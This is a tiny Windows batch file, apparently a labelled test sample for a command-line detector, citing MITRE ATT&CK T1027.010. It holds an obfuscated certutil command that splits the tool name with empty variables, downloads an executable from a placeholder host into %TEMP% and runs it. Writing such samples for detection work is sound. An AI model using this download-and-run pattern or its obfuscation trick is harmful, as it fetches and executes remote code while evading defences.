@rem expect: disguised-command, download-and-run | source: MITRE ATT&CK T1027.010
ce%qx%rt%zz%util -urlcache -split -f http://files.example.invalid/a.exe %TEMP%\a.exe
start %TEMP%\a.exe
